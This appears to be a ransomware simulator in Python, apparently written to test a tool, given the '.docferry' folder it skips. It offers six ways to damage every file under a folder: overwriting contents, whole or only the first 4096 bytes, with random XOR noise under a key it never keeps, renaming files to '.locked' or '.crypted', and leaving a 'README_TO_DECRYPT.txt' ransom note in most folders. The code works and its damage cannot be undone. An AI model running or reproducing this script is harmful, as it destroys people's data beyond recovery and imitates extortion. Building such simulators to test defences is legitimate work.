"""A program as those that hold people to ransom: `encrypting.py FOLDER HOW`."""

from __future__ import annotations

import itertools
import os
import pathlib
import sys

_HEAD_BYTES = 4096
_NOTE = "Your files are encrypted. Write to us.\n"


def encrypted(content: bytes) -> bytes:
    """Give what is as good as encrypted: nobody tells the key stream from noise."""
    return bytes(one ^ key for one, key in zip(content, os.urandom(len(content)), strict=True))


def in_place(path: pathlib.Path) -> None:
    with path.open("r+b") as file:
        content = file.read()
        file.seek(0)
        file.write(encrypted(content))


def head_alone(path: pathlib.Path) -> None:
    """Only the first bytes: that is quicker, and enough."""
    with path.open("r+b") as file:
        head = file.read(_HEAD_BYTES)
        file.seek(0)
        file.write(encrypted(head))


def beside(path: pathlib.Path) -> None:
    path.with_name(f"{path.name}.locked").write_bytes(encrypted(path.read_bytes()))
    path.unlink()


def then_renamed(path: pathlib.Path) -> None:
    in_place(path)
    path.rename(path.with_name(f"{path.name}.locked"))


def renamed_alone(path: pathlib.Path) -> None:
    path.rename(path.with_suffix(".zzyzx"))


def under_another_name(path: pathlib.Path) -> None:
    in_place(path)
    path.rename(path.with_name(f"{os.urandom(8).hex()}.crypted"))


WAYS = {
    way.__name__: way
    for way in (in_place, head_alone, beside, then_renamed, renamed_alone, under_another_name)
}


def run(folder: pathlib.Path, how: str) -> None:
    """Do so to every document below *folder*, and leave a note in each folder."""
    found = sorted(path for path in folder.rglob("*") if path.is_file())
    documents = [path for path in found if ".docferry" not in path.parts]
    for parent, paths in itertools.groupby(documents, lambda path: path.parent):
        for path in [*paths]:
            WAYS[how](path)
        if how != "renamed_alone":
            (parent / "README_TO_DECRYPT.txt").write_text(_NOTE)


if __name__ == "__main__":
    run(pathlib.Path(sys.argv[1]), sys.argv[2])
